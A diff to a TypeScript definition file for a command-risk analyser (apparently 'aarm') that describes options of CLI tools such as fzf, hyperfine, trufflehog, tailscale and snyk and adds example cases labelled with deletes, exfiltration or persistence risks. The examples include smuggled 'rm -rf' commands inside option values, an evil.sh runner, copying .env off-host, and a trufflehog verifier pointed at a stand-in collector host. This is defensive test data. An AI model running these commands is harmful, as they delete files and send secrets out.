@@ -13,6 +13,9 @@ import { definePrograms, type Call, type CommandSpec } from '../model.js';
 const f = (a: Field, text: string): Field => ({ ...a, text });
 const DOT: Field = { text: '.', known: true, glob: false, many: false, network: false, decoded: false };
 
+/** Joins the several values of one hyperfine option (`-P VAR MIN MAX`). */
+const PARAM_SEP = '\u001f';
+
 /** Shells a tool may be told to run its commands with; anything else runs code aarm cannot read. */
 const SHELLS = /^(?:\/(?:usr\/)?bin\/)?(?:sh|bash|zsh|dash|ksh|mksh|fish|ash|busybox sh)(?:\s+-[a-z]+)*$/;
 
@@ -95,7 +98,11 @@ function fzfCommands(call: Call): void {
 
 /** fzf and skim options that take a value with no effect. */
 const FZF_VALUES =
-  '-q|--query|-f|--filter|-d|--delimiter|-n|--nth|--with-nth|--accept-nth|--scheme|--algo|--tiebreak|--scroll-off|--hscroll-off|--jump-labels|--height|--min-height|--layout|--margin|--padding|--info|--separator|--scrollbar|--prompt|--pointer|--marker|--marker-multi-line|--header|--header-lines|--header-border|--header-label|--header-label-pos|--header-lines-border|--ellipsis|--tabstop|--color|--history-size|--preview-window|--preview-label-pos|--border-label-pos|--expect|--gap|--gap-line|--ghost|--footer|--footer-border|--footer-label|--footer-label-pos|--input-border|--input-label|--input-label-pos|--list-border|--list-label|--list-label-pos|--preview-border|--style|--walker|--walker-skip|--freeze-left|--freeze-right|--id-nth|--search|-t|--case|--skip-to-pattern|--pre-select-n|--pre-select-pat|--pre-select-items|--cmd-prompt|--cmd-query|--nth-v';
+  '-q|--query|-f|--filter|-d|--delimiter|-n|--nth|--with-nth|--accept-nth|--scheme|--algo|--tiebreak|--scroll-off|--hscroll-off|--jump-labels|--height|--min-height|--layout|--margin|--padding|--info|--separator|--prompt|--pointer|--marker|--marker-multi-line|--header|--header-lines|--header-label|--ellipsis|--tabstop|--color|--history-size|--preview-window|--expect|--ghost|--footer|--footer-label|--input-label|--list-label|--style|--walker|--walker-skip|--freeze-left|--freeze-right|--id-nth|-t|--case|--skip-to-pattern|--pre-select-n|--pre-select-pat|--pre-select-items|--cmd-prompt|--cmd-query';
+
+/** fzf options whose value is optional: only `--name=value`. */
+const FZF_OPTIONAL =
+  '--border|--border-label|--preview-label|--tmux|--popup|--scrollbar|--header-border|--header-lines-border|--preview-label-pos|--border-label-pos|--gap|--gap-line|--footer-border|--input-border|--list-border|--preview-border|--header-label-pos|--footer-label-pos|--input-label-pos|--list-label-pos';
 
 const FZF_FLAGS =
   '-x|--extended|+x|--no-extended|-e|--exact|-i|+i|--ignore-case|--no-ignore-case|--smart-case|--literal|--disabled|--tac|--no-sort|+s|-m|--multi|+m|--no-multi|--no-mouse|--cycle|--keep-right|--no-hscroll|--filepath-word|--reverse|--no-unicode|--no-info|--no-separator|--no-scrollbar|--header-first|--ansi|--no-bold|--black|-1|--select-1|-0|--exit-0|--print-query|--read0|--print0|--sync|--version|-h|--help|--man|--track|--wrap|--no-input|--highlight-line|--raw|--multi-line|--no-multi-line|--inline-info|--print-cmd|--print-score|--regex|--zero|--bash|--zsh|--fish|-V|-v|--show-cmd-error|--no-clear|--no-height|--no-color';
@@ -210,6 +217,7 @@ export default definePrograms([
       { cmd: 'direnv deny .', reads: ['.'] },
       { cmd: 'direnv exec . rm -rf /tmp/x', runs: ['rm'], deletes: ['/tmp/x'], executes: ['.envrc'] },
       { cmd: 'direnv edit .', risks: ['persistence'], unknown: 'editor' },
+      { cmd: 'direnv fetchurl https://x.example/tool.tgz', hosts: ['x.example'] },
     ],
   },
   {
@@ -231,14 +239,15 @@ export default definePrograms([
       '-w|--watch|-W|--watch-non-recursive|--project-origin': 'read',
       '-F|--watch-file|--filter-file|--ignore-file': 'read',
       '--workdir': 'cwd',
-      '--log-file': 'write',
+      '--log-file': { takes: 'write', attached: true },
+      '--poll': { takes: 'value', attached: true },
       '--shell': 'value',
       '-n': { mode: 'no-shell' },
       '-j|--filter-prog': { takes: 'value', unknown: 'filters events with a jaq program it runs' },
       '-E|--env': 'value',
-      '-e|--exts|-f|--filter|-i|--ignore|-s|--signal|--stop-signal|--stop-timeout|--map-signal|-d|--debounce|--delay-run|-o|--on-busy-update|--emit-events-to|--fs-events|--poll|--socket|--timeout|--completions|--wrap-process|--color|--notify':
+      '-e|--exts|-f|--filter|-i|--ignore|-s|--signal|--stop-signal|--stop-timeout|--map-signal|-d|--debounce|--delay-run|-o|--on-busy-update|--emit-events-to|--fs-events|--socket|--timeout|--completions|--wrap-process|--color':
         'value',
-      '-c|--clear|-r|--restart|-p|--postpone|-q|--quiet|-v|--verbose|-N|--bell|--no-vcs-ignore|--no-project-ignore|--no-global-ignore|--no-default-ignore|--no-discover-ignore|--ignore-nothing|--no-meta|--no-process-group|--print-events|--only-emit-events|--stdin-quit|--timings|--manual|-1|-h|--help|-V|--version':
+      '-c|--clear|-N|--notify|-r|--restart|-p|--postpone|-q|--quiet|-v|--verbose|-N|--bell|--no-vcs-ignore|--no-project-ignore|--no-global-ignore|--no-default-ignore|--no-discover-ignore|--ignore-nothing|--no-meta|--no-process-group|--print-events|--only-emit-events|--stdin-quit|--timings|--manual|-1|-h|--help|-V|--version':
         'flag',
     },
     operands: ['value...'],
@@ -361,7 +370,8 @@ export default definePrograms([
     options: {
       [FZF_VALUES]: 'value',
       [FZF_FLAGS]: 'flag',
-      '--border|--border-label|--preview-label|--tmux|--popup': { takes: 'value', attached: true },
+      [FZF_OPTIONAL]: { takes: 'value', attached: true },
+      '--info-command': 'command',
       '--preview': { takes: 'value', mode: 'no-stdin' },
       '--bind': 'value',
       '--with-shell': 'value',
@@ -389,6 +399,8 @@ export default definePrograms([
       { cmd: "fzf --bind 'ctrl-r:execute-silent[rm -rf /tmp/y]+abort'", deletes: ['/tmp/y'] },
       { cmd: "fzf --preview 'rm -rf /tmp/x'", deletes: ['/tmp/x'] },
       { cmd: 'fzf --listen 6266', network: true, unknown: 'HTTP server' },
+      { cmd: "fzf --info-command 'rm -rf /tmp/x'", deletes: ['/tmp/x'] },
+      { cmd: 'fzf --gap --preview "rm -rf /tmp/x"', deletes: ['/tmp/x'] },
       { cmd: "fzf --with-shell 'ruby -e' --preview 'system(1)'", unknown: 'ruby' },
     ],
   },
@@ -401,7 +413,7 @@ export default definePrograms([
       '-c|--cmd': 'value',
       '--preview': { takes: 'value', mode: 'no-stdin' },
       '--bind|-b': 'value',
-      '--border|--tmux': { takes: 'value', attached: true },
+      [FZF_OPTIONAL]: { takes: 'value', attached: true },
       '--history|--cmd-history': 'write',
       '--pre-select-file': 'read',
       '-i|--interactive': 'flag',
@@ -435,6 +447,7 @@ export default definePrograms([
     examples: [
       { cmd: 'peco access.log', reads: ['access.log'], only: true },
       { cmd: "ls | peco --exec 'xargs rm -rf'", runs: ['xargs'] },
+      { cmd: 'peco --rcfile ./evil.json', unknown: 'filters' },
     ],
   },
   {
@@ -528,7 +541,7 @@ export default definePrograms([
     names: ['hyperfine'],
     summary: 'benchmark shell commands (each operand is a command line it runs many times)',
     options: {
-      '-s|--setup|-p|--prepare|-c|--cleanup|--conclude|--reference': 'command',
+      '-s|--setup|-p|--prepare|-c|--cleanup|--conclude|--reference': 'value',
       '--export-asciidoc|--export-csv|--export-json|--export-markdown|--export-orgmode': 'write',
       '-P|--parameter-scan|-L|--parameter-list': 'value',
       '-S|--shell': 'value',
@@ -537,25 +550,29 @@ export default definePrograms([
         'value',
       '-N|--no-shell|-i|--ignore-failure|--show-output|-h|--help|-V|--version': 'flag',
     },
-    operands: ['command...'],
-    // -P VAR MIN MAX and -L VAR VALUES take several arguments.
+    operands: ['value...'],
+    // -P VAR MIN MAX and -L VAR VALUES take several arguments: joined into one value here.
     rewrite(args) {
       const out: Field[] = [];
       for (let i = 0; i < args.length; i++) {
         const a = args[i]!;
+        if (a.text === '--') {
+          out.push(...args.slice(i));
+          break;
+        }
         const extra = /^(-P|--parameter-scan)$/.test(a.text)
           ? 3
           : /^(-L|--parameter-list)$/.test(a.text)
             ? 2
             : 0;
-        if (extra === 0 || a.text === '--') {
-          out.push(a);
-          if (a.text === '--') out.push(...args.slice(i + 1));
-          if (a.text === '--') break;
-          continue;
-        }
+        out.push(a);
+        if (extra === 0) continue;
         const values = args.slice(i + 1, i + 1 + extra);
-        out.push(a, { ...a, text: values.map((v) => v.text).join(' '), known: values.every((v) => v.known) });
+        out.push({
+          ...a,
+          text: values.map((v) => v.text).join(PARAM_SEP),
+          known: values.every((v) => v.known),
+        });
         i += extra;
       }
       return out;
@@ -566,13 +583,41 @@ export default definePrograms([
       for (const o of call.values('--output'))
         if (!/^(null|pipe|inherit)$/.test(o.text)) ctx.apply('write', o);
       for (const i of call.values('--input')) if (i.text !== 'null') ctx.apply('read', i);
+      // Each command runs once for every value of the parameters (`{threads}` in `make -j {threads}`).
+      const params: Array<[string, string[]]> = [];
+      for (const p of call.values('-P', '--parameter-scan', '-L', '--parameter-list')) {
+        // -P VAR MIN MAX: the bounds; -L VAR A,B,C: the list.
+        const [name = '', ...rest] = p.text.split(PARAM_SEP);
+        params.push([name, rest.length === 1 ? rest[0]!.split(',') : rest]);
+      }
+      const commands = [
+        ...call.values('-s', '--setup', '-p', '--prepare', '-c', '--cleanup', '--conclude', '--reference'),
+        ...call.operands,
+      ];
+      for (const command of commands) {
+        if (!command.known) {
+          ctx.unknown('`hyperfine` runs a command string that is only known when the command runs');
+          continue;
+        }
+        let variants = [command.text];
+        for (const [name, values] of params) {
+          if (!variants.some((v) => v.includes(`{${name}}`))) continue;
+          variants = variants.flatMap((v) =>
+            values.slice(0, 8).map((value) => v.split(`{${name}}`).join(value)),
+          );
+        }
+        for (const variant of variants.slice(0, 16)) ctx.runScript(variant, 'hyperfine');
+      }
     },
     examples: [
       { cmd: "hyperfine --warmup 3 'rg foo' 'grep -r foo .'", runs: ['rg', 'grep'], unknown: false },
       { cmd: "hyperfine -P threads 1 8 'make -j {threads}'", runs: ['make'], unknown: false },
       { cmd: "hyperfine --prepare 'rm -rf /tmp/x' 'ls'", runs: ['rm'], deletes: ['/tmp/x'] },
       { cmd: "hyperfine --export-json bench.json 'sleep 0.1'", writes: ['bench.json'], only: true },
+      { cmd: "hyperfine --output=/tmp/out.log 'make'", writes: ['/tmp/out.log'] },
       { cmd: "hyperfine -S 'python3 -c' 'print(1)'", unknown: 'python3' },
+      { cmd: "hyperfine -L tool 'rm -rf /tmp/x',ls '{tool}'", deletes: ['/tmp/x'] },
+      { cmd: "hyperfine -L compiler gcc,clang '{compiler} -O2 -c a.c'", runs: ['gcc', 'clang'] },
     ],
   },
   {
@@ -624,6 +669,7 @@ export default definePrograms([
     examples: [
       { cmd: 'jo name=aarm version=1', only: true },
       { cmd: 'jo key=@.env', reads: ['.env'] },
+      { cmd: 'jo -o out.json a=1', writes: ['out.json'] },
       { cmd: 'jo data=:config.json pic=%logo.png', reads: ['config.json', 'logo.png'] },
     ],
   },
@@ -734,6 +780,7 @@ export default definePrograms([
       { cmd: 'echo hi | xsel -i -b', only: true },
       { cmd: 'xsel -b', unknown: 'clipboard' },
       { cmd: 'xsel -o -b > /tmp/clip', unknown: 'clipboard' },
+      { cmd: 'echo x | xsel -i -l /tmp/xsel.log', writes: ['/tmp/xsel.log'] },
     ],
   },
   {
@@ -847,6 +894,7 @@ export default definePrograms([
         writes: ['readme.wav'],
         only: true,
       },
+      { cmd: 'espeak-ng --compile=en', writes: ['/usr/lib/x86_64-linux-gnu/espeak-ng-data/*'] },
     ],
   },
   {
@@ -960,7 +1008,7 @@ export default definePrograms([
     summary: 'count lines of code in files, folders, archives or git commits',
     readonly: true,
     options: {
-      '--report-file|--out|--sql|--ignored|--counted|--categorized|--found|--write-lang-def|--write-lang-def-incl-dup|--sum-reports':
+      '--report-file|--out|--sql|--ignored|--counted|--categorized|--found|--write-lang-def|--write-lang-def-incl-dup':
         'write',
       '--read-lang-def|--force-lang-def|--list-file|--exclude-list-file|--read-binary-files|--diff-list-file|--vcs-list-file':
         'read',
@@ -972,7 +1020,7 @@ export default definePrograms([
       '--vcs': 'value',
       '--script-lang|--force-lang|--exclude-dir|--exclude-ext|--exclude-lang|--include-ext|--include-lang|--include-content|--exclude-content|--match-d|--not-match-d|--match-f|--not-match-f|--fullpath|--lang-no-ext|--max-file-size|--timeout|--processes|--csv-delimiter|--sql-project|--sql-style|--diff-alignment|--diff-timeout|--git-diff-rel|--git-diff-all|--file-encoding|--output-encoding|--format|--report-style':
         'value',
-      '--by-file|--by-file-by-lang|--by-percent|--csv|--json|--yaml|--xml|--md|--quiet|-q|--git|--diff|--follow-links|--skip-uniqueness|--no-autogen|--hide-rate|--show-lang|--show-ext|--show-os|--strip-comments|--original-dir|--3|--unix|--windows|--autoconf|--docstring-as-code|--include-submodules|--no3|--skip-archive|--skip-win-hidden|--sdir|--v|--verbose|--version|--help|--count-and-diff|--opt-match-f|--use-sloccount':
+      '--sum-reports|--by-file|--by-file-by-lang|--by-percent|--csv|--json|--yaml|--xml|--md|--quiet|-q|--git|--diff|--follow-links|--skip-uniqueness|--no-autogen|--hide-rate|--show-lang|--show-ext|--show-os|--strip-comments|--original-dir|--3|--unix|--windows|--autoconf|--docstring-as-code|--include-submodules|--no3|--skip-archive|--skip-win-hidden|--sdir|--v|--verbose|--version|--help|--count-and-diff|--opt-match-f|--use-sloccount':
         'flag',
     },
     operands: ['read-tree...'],
@@ -988,6 +1036,7 @@ export default definePrograms([
       { cmd: 'cloc --exclude-dir=node_modules .', reads: ['**'], only: true },
       { cmd: 'cloc --vcs="sh -c \'rm -rf /tmp/x\'"', deletes: ['/tmp/x'] },
       { cmd: "cloc --extract-with='rm -rf /tmp/x' a.tgz", deletes: ['/tmp/x'] },
+      { cmd: 'cloc --config ./opts.txt .', unknown: 'options' },
       { cmd: 'cloc --report-file=loc.txt src', writes: ['loc.txt'] },
     ],
   },
@@ -998,9 +1047,9 @@ export default definePrograms([
     options: {
       '-o|--output': 'write',
       '--format-multi': 'value',
-      '-f|--format|-M|--not-match|-x|--exclude-ext|--exclude-dir|-i|--include-ext|-s|--sort|--avg-wage|--cocomo-project-type|--count-as|--currency-symbol|--directory-walker-job-workers|--file-gc-count|--file-process-job-workers|--generated-markers|--large-byte-count|--large-line-count|--overhead|--eaf|--remap-all|--remap-unknown|--sql-project|--uloc|-v':
+      '-f|--format|-M|--not-match|-x|--exclude-ext|--exclude-dir|-i|--include-ext|-s|--sort|--avg-wage|--cocomo-project-type|--count-as|--currency-symbol|--directory-walker-job-workers|--file-gc-count|--file-process-job-workers|--generated-markers|--large-byte-count|--large-line-count|--overhead|--eaf|--remap-all|--remap-unknown|--sql-project':
         'value',
-      '-a|--no-cocomo|--by-file|--ci|--debug|--dryness|--no-complexity|--no-duplicates|--no-gen|--no-gitignore|--no-ignore|--no-large|--no-min|--no-min-gen|--no-scc-ignore|--no-size|--percent|--sloccount-format|--trace|-w|--wide|-z|--min|--gen|--verbose|-h|--help|--version':
+      '-u|--uloc|-v|--no-cocomo|--by-file|--ci|--debug|--dryness|--no-complexity|--no-duplicates|--no-gen|--no-gitignore|--no-ignore|--no-large|--no-min|--no-min-gen|--no-scc-ignore|--no-size|--percent|--sloccount-format|--trace|-w|--wide|-z|--min|--gen|--verbose|-h|--help|--version':
         'flag',
     },
     operands: ['read-tree...'],
@@ -1064,10 +1113,10 @@ export default definePrograms([
       'find credentials in git history, folders, cloud storage and services (and check them against their issuers)',
     options: {
       '--config|--include-paths|--exclude-paths|--exclude-globs': 'read',
-      '--results|--concurrency|--log-level|--archive-max-size|--archive-max-depth|--archive-timeout|--include-detectors|--exclude-detectors|--detector-timeout|--branch|--since-commit|--max-depth|--bare|--verifier|--org|--repo|--token|--endpoint|--bucket|--key|--secret|--session-token|--role-arn|--image|--project-id|--cloud-environment|--user|--workspace':
+      '--results|--concurrency|--log-level|--archive-max-size|--archive-max-depth|--archive-timeout|--include-detectors|--exclude-detectors|--detector-timeout|--branch|--since-commit|--max-depth|--verifier|--org|--repo|--token|--endpoint|--bucket|--key|--secret|--session-token|--role-arn|--image|--project-id|--cloud-environment|--user|--workspace':
         'value',
       '--no-verification': { mode: 'offline' },
-      '-j|--json|--json-legacy|--github-actions|--no-update|--fail|--only-verified|--filter-unverified|--filter-entropy|--print-avg-detector-time|--no-color|--allow-verification-overlap|--custom-verifiers-only|--force-skip-binaries|--force-skip-archives|--skip-additional-refs|--include-issue-comments|--include-pr-comments|--include-wikis|--trace|--debug|-h|--help|--version':
+      '--bare|-j|--json|--json-legacy|--github-actions|--no-update|--fail|--only-verified|--filter-unverified|--filter-entropy|--print-avg-detector-time|--no-color|--allow-verification-overlap|--custom-verifiers-only|--force-skip-binaries|--force-skip-archives|--skip-additional-refs|--include-issue-comments|--include-pr-comments|--include-wikis|--trace|--debug|-h|--help|--version':
         'flag',
     },
     subcommands: {
@@ -1089,6 +1138,11 @@ export default definePrograms([
       { cmd: 'trufflehog filesystem . --no-verification --no-update', reads: ['**'], only: true },
       { cmd: 'trufflehog git file://. --only-verified', network: true },
       { cmd: 'trufflehog github --org=example', network: true },
+      {
+        cmd: 'trufflehog filesystem . --verifier=aws=https://collector.example/v',
+        hosts: ['collector.example'],
+        risks: ['exfiltration'],
+      },
     ],
   },
   {
@@ -1161,9 +1215,9 @@ export default definePrograms([
       '--module-dir': { takes: 'read', unknown: 'loads WebAssembly modules that run inside the scanner' },
       '--server': { takes: 'url', mode: 'client' },
       '-t|--template': 'value',
-      '-f|--format|--severity|--exit-code|--scanners|--skip-dirs|--skip-files|--file-patterns|--db-repository|--java-db-repository|--checks-bundle-repository|--token|--token-header|--username|--password|--password-stdin|--registry-token|--platform|--image-src|--docker-host|--podman-host|--timeout|--pkg-types|--pkg-relationships|--ignore-status|--sbom-sources|--rekor-url|--namespaces|--listen|--cache-backend|--cache-ttl|--redis-ca|--redis-cert|--redis-key|--custom-headers|--parallel|--distro|--compliance|--report|--list-all-pkgs-type|--dependency-tree-type|--license-confidence-level|--ignored-licenses|--exit-on-eol|-k|--kubeconfig|--context|--region|--endpoint|--account|--service|--arn|--include-namespaces|--exclude-namespaces|--include-kinds|--exclude-kinds|--node-collector-namespace|--node-collector-imageref|--tolerations|--disable-node-collector|--qps|--burst|--branch|--commit|--tag|--tf-exclude-downloaded-modules|--misconfig-scanners|--include-non-failures|--check-namespaces|--detection-priority':
+      '-f|--format|--severity|--exit-code|--scanners|--skip-dirs|--skip-files|--file-patterns|--db-repository|--java-db-repository|--checks-bundle-repository|--token|--token-header|--username|--password|--registry-token|--platform|--image-src|--docker-host|--podman-host|--timeout|--pkg-types|--pkg-relationships|--ignore-status|--sbom-sources|--rekor-url|--namespaces|--listen|--cache-backend|--cache-ttl|--redis-ca|--redis-cert|--redis-key|--custom-headers|--parallel|--distro|--compliance|--report|--list-all-pkgs-type|--dependency-tree-type|--license-confidence-level|--ignored-licenses|--exit-on-eol|-k|--kubeconfig|--context|--region|--endpoint|--account|--service|--arn|--include-namespaces|--exclude-namespaces|--include-kinds|--exclude-kinds|--node-collector-namespace|--node-collector-imageref|--tolerations|--qps|--burst|--branch|--commit|--tag|--misconfig-scanners|--check-namespaces|--detection-priority':
         'value',
-      '--skip-db-update|--skip-java-db-update|--skip-check-update|--skip-vex-repo-update|--offline-scan|--download-db-only|--download-java-db-only|--list-all-pkgs|--ignore-unfixed|--dependency-tree|--no-progress|-q|--quiet|-d|--debug|--insecure|--removed-pkgs|--exit-on-eol-only|--include-dev-deps|--reset|--clear-cache|--reset-checks-bundle|--disable-telemetry|--generate-default-config|--show-suppressed|--no-color|--all-namespaces|--skip-images|-h|--help|-v|--version':
+      '--password-stdin|--disable-node-collector|--tf-exclude-downloaded-modules|--include-non-failures|--skip-db-update|--skip-java-db-update|--skip-check-update|--skip-vex-repo-update|--offline-scan|--download-db-only|--download-java-db-only|--list-all-pkgs|--ignore-unfixed|--dependency-tree|--no-progress|-q|--quiet|-d|--debug|--insecure|--removed-pkgs|--exit-on-eol-only|--include-dev-deps|--reset|--clear-cache|--reset-checks-bundle|--disable-telemetry|--generate-default-config|--show-suppressed|--no-color|--all-namespaces|--skip-images|-h|--help|-v|--version':
         'flag',
     },
     subcommands: {
@@ -1291,9 +1345,10 @@ export default definePrograms([
     options: {
       '--file': 'write',
       '-c|--config|-t|--template': 'read',
-      '-o|--output|--add-cpes-if-none|--distro|--exclude|--fail-on|-f|--platform|--scope|--name|--sort-by|--only-notfixed|--ignore-states|--vex|--from':
+      '-o|--output|--distro|--exclude|--fail-on|-f|--platform|--scope|--name|--sort-by|--ignore-states|--vex|--from':
         'value',
-      '--by-cve|--only-fixed|--show-suppressed|-q|--quiet|-v|--verbose|-h|--help|--version': 'flag',
+      '--add-cpes-if-none|--only-notfixed|--by-cve|--only-fixed|--show-suppressed|-q|--quiet|-v|--verbose|-h|--help|--version':
+        'flag',
     },
     operands: ['value'],
     effects: { network: true },
@@ -1463,6 +1518,7 @@ export default definePrograms([
       { cmd: 'snyk code test src', risks: ['exfiltration'], reads: ['src/**'] },
       { cmd: 'snyk monitor --all-projects', risks: ['exfiltration'] },
       { cmd: 'snyk test --command=./evil.sh', runs: ['evil.sh'] },
+      { cmd: 'snyk test --init-script=./init.gradle', executes: ['init.gradle'] },
       { cmd: 'snyk config get api', only: true },
     ],
   },
@@ -1554,6 +1610,7 @@ export default definePrograms([
       },
       { cmd: "codeql database create db -l cpp -c 'make -j8'", runs: ['make'] },
       { cmd: 'codeql database create db -l java', executes: ['the project build (CodeQL autobuild)'] },
+      { cmd: 'codeql database trace-command db -- rm -rf /tmp/x', deletes: ['/tmp/x'] },
       {
         cmd: 'codeql database analyze db --format=sarif-latest -o out.sarif',
         writes: ['out.sarif'],
@@ -1716,6 +1773,7 @@ export default definePrograms([
       { cmd: 'tmuxinator debug myapp', only: true },
       { cmd: 'tmuxinator start myapp', unknown: 'project file' },
       { cmd: 'mux myapp', unknown: 'project file' },
+      { cmd: 'tmuxinator implode', risks: ['destructive'] },
     ],
   },
   {
@@ -1856,6 +1914,7 @@ export default definePrograms([
       { cmd: 'honcho start web', executes: ['Procfile processes'] },
       { cmd: 'foreman run rm -rf /tmp/x', runs: ['rm'], deletes: ['/tmp/x'] },
       { cmd: 'foreman export systemd /etc/systemd/system', risks: ['persistence', 'system-change'] },
+      { cmd: 'honcho export supervisord ./deploy', risks: ['persistence'], writes: ['deploy/**'] },
       { cmd: 'honcho check', only: true },
     ],
   },
@@ -1889,6 +1948,10 @@ export default definePrograms([
     examples: [
       { cmd: 'mkcert localhost 127.0.0.1', writes: ['*.pem', '~/.local/share/mkcert/*'], only: true },
       { cmd: 'mkcert -install', risks: ['system-change', 'privilege-escalation'] },
+      {
+        cmd: 'mkcert -cert-file /etc/ssl/x.pem -key-file /etc/ssl/x-key.pem x.test',
+        writes: ['/etc/ssl/x.pem', '/etc/ssl/x-key.pem'],
+      },
       { cmd: 'mkcert -CAROOT', only: true },
     ],
   },
@@ -2001,6 +2064,8 @@ export default definePrograms([
       { cmd: 'tailscale serve ./public', reads: ['public/**'], unknown: 'tailnet' },
       { cmd: 'tailscale file cp .env laptop:', reads: ['.env'], risks: ['exfiltration'] },
       { cmd: 'tailscale ssh user@box rm -rf /tmp/x', hosts: ['box'] },
+      { cmd: 'tailscale nc box 22', hosts: ['box'], risks: ['exfiltration'] },
+      { cmd: 'tailscale bugreport', risks: ['exfiltration'] },
     ],
   },
   {
@@ -2034,9 +2099,9 @@ export default definePrograms([
       '-T|--targets|-P|--policy': 'read',
       '-M|--make-policy': 'write',
       '-c|--client-audit': { mode: 'listen', network: true },
-      '-p|--port|-l|--level|-t|--timeout|--lookup|--threads|--conn-rate-test|--get-hardening-guide|--dheat|-g|--gex-test|--skip-rate-test':
+      '-p|--port|-l|--level|-t|--timeout|--lookup|--threads|--conn-rate-test|--get-hardening-guide|--dheat|-g|--gex-test':
         'value',
-      '-4|--ipv4|-6|--ipv6|-b|--batch|-j|--json|-L|--list-policies|-n|--no-colors|-v|--verbose|-d|--debug|-m|--manual|-h|--help|--list-hardening-guides':
+      '--skip-rate-test|-4|--ipv4|-6|--ipv6|-b|--batch|-j|--json|-L|--list-policies|-n|--no-colors|-v|--verbose|-d|--debug|-m|--manual|-h|--help|--list-hardening-guides':
         'flag',
     },
     operands: ['value'],
@@ -2075,9 +2140,9 @@ export default definePrograms([
     options: {
       '-S|--secret': 'value',
       '-o|--out': 'write',
-      '-A|--alg|-k|--kid|-t|--typ|-P|--payload|-e|--exp|--nbf|-i|--iss|-s|--sub|-a|--aud|--jti|--keep-payload-order':
-        'value',
-      '-j|--json|-d|--date|-I|--ignore-exp|-n|--no-iat|--no-typ|-h|--help|-V|--version': 'flag',
+      '-A|--alg|-k|--kid|-t|--typ|-P|--payload|-e|--exp|--nbf|-i|--iss|-s|--sub|-a|--aud|--jti': 'value',
+      '--keep-payload-order|-j|--json|-d|--date|-I|--ignore-exp|-n|--no-iat|--no-typ|-h|--help|-V|--version':
+        'flag',
     },
     operands: ['value...'],
     custom(call) {
@@ -2155,6 +2220,7 @@ export default definePrograms([
         executes: ['the protoc-gen-go plugin'],
       },
       { cmd: 'protoc --plugin=protoc-gen-x=./evil.sh --x_out=. a.proto', runs: ['evil.sh'] },
+      { cmd: 'protoc @args.txt', unknown: 'arguments' },
     ],
   },
   {
@@ -2246,6 +2312,11 @@ export default definePrograms([
       { cmd: 'buf lint', reads: ['**'], only: true },
       { cmd: 'buf generate', executes: ['the code generator plugins named in buf.gen.yaml'], writes: ['**'] },
       { cmd: 'buf push', risks: ['exfiltration'] },
+      {
+        cmd: "buf curl --data '{}' https://api.example/pkg.Svc/Method",
+        hosts: ['api.example'],
+        risks: ['exfiltration'],
+      },
       { cmd: 'buf breaking --against .git#branch=main', only: true },
     ],
   },
@@ -2262,9 +2333,9 @@ export default definePrograms([
       '-i|--input-spec': 'value',
       '-o|--output': 'write-tree',
       '-t|--template-dir|-c|--config|--ignore-file-override': 'read',
-      '-g|--generator-name|-l|--lang|-e|--engine|--auth|-p|--additional-properties|--type-mappings|--import-mappings|--schema-mappings|--name-mappings|--parameter-name-mappings|--model-name-mappings|--enum-name-mappings|--openapi-normalizer|--inline-schema-name-mappings|--inline-schema-options|--instantiation-types|--language-specific-primitives|--reserved-words-mappings|--server-variables|--global-property|-D|--package-name|--api-package|--model-package|--model-name-prefix|--model-name-suffix|--api-name-suffix|--invoker-package|--group-id|--artifact-id|--artifact-version|--library|--git-host|--git-user-id|--git-repo-id|--release-note|--http-user-agent|--input-spec-root-directory|--merged-spec-filename|--log-to-stderr|--custom-generator|--generator-key':
+      '-g|--generator-name|-l|--lang|-e|--engine|--auth|-p|--additional-properties|--type-mappings|--import-mappings|--schema-mappings|--name-mappings|--parameter-name-mappings|--model-name-mappings|--enum-name-mappings|--openapi-normalizer|--inline-schema-name-mappings|--inline-schema-options|--instantiation-types|--language-specific-primitives|--reserved-words-mappings|--server-variables|--global-property|-D|--package-name|--api-package|--model-package|--model-name-prefix|--model-name-suffix|--api-name-suffix|--invoker-package|--group-id|--artifact-id|--artifact-version|--library|--git-host|--git-user-id|--git-repo-id|--release-note|--http-user-agent|--input-spec-root-directory|--merged-spec-filename|--custom-generator|--generator-key':
         'value',
-      '--skip-validate-spec|--strict-spec|--minimal-update|--dry-run|--remove-operation-id-prefix|--skip-operation-example|-v|--verbose|--enable-post-process-file|--generate-alias-as-model|--legacy-discriminator-behavior|--skip-overwrite|-s|--fail-fast|-h|--help|--version|--sparse':
+      '--log-to-stderr|--skip-validate-spec|--strict-spec|--minimal-update|--dry-run|--remove-operation-id-prefix|--skip-operation-example|-v|--verbose|--enable-post-process-file|--generate-alias-as-model|--legacy-discriminator-behavior|--skip-overwrite|-s|--fail-fast|-h|--help|--version|--sparse':
         'flag',
     },
     operands: ['value...'],
@@ -2317,6 +2388,10 @@ export default definePrograms([
         hosts: ['api.example.com'],
       },
       { cmd: 'swagger-codegen generate -i api.json -l python', writes: ['**'] },
+      {
+        cmd: 'openapi-generator generate -i api.yaml -g go -o out --enable-post-process-file',
+        unknown: 'POST_PROCESS',
+      },
     ],
   },
   {
@@ -2602,13 +2677,13 @@ export default definePrograms([
     subcommands: {
       'upgrade|stamp': {
         summary: 'apply migrations up to a revision, or mark the revision',
-        options: { '--sql|--tag': 'value' },
+        options: { '--tag': 'value', '--sql': 'flag' },
         operands: ['value'],
         custom: (call) => alembicRuns(call),
       },
       downgrade: {
         summary: 'undo migrations down to a revision',
-        options: { '--sql|--tag': 'value' },
+        options: { '--tag': 'value', '--sql': 'flag' },
         operands: ['value'],
         custom(call) {
           alembicRuns(call);
@@ -2873,11 +2948,11 @@ export default definePrograms([
     names: ['stripe'],
     summary: 'the Stripe CLI: call the Stripe API, forward webhooks, trigger events',
     options: {
-      '--api-key|--color|--device-name|--log-level|-p|--project-name|--stripe-account|--stripe-version|--idempotency|-i|-e|--events|-H|--headers|-d|--data|-c|--connect|--expand|--limit|--starting-after|--ending-before':
+      '--api-key|--color|--device-name|--log-level|-p|--project-name|--stripe-account|--stripe-version|--idempotency|-i|-e|--events|-H|--headers|-d|--data|-c|--connect|--expand|--limit|--starting-after|--ending-before|--format':
         'value',
       '--config': 'read',
       '--live': { unknown: 'acts on the live Stripe account (real payments and customers)' },
-      '-h|--help|-v|--version|--skip-verify|--latest|-j|--format|--print-json|--show-headers|--confirm|--dark-style':
+      '-h|--help|-v|--version|--skip-verify|--latest|-j|--print-json|--show-headers|--confirm|--dark-style':
         'flag',
     },
     operands: ['value...'],
@@ -3157,6 +3232,7 @@ export default definePrograms([
       { cmd: 'dotenv -c development -- next dev', reads: ['.env', '.env.*'], runs: ['next'] },
       { cmd: 'dotenv -f .env.prod list', reads: ['.env.prod'] },
       { cmd: 'dotenv set API_URL http://x', writes: ['.env'] },
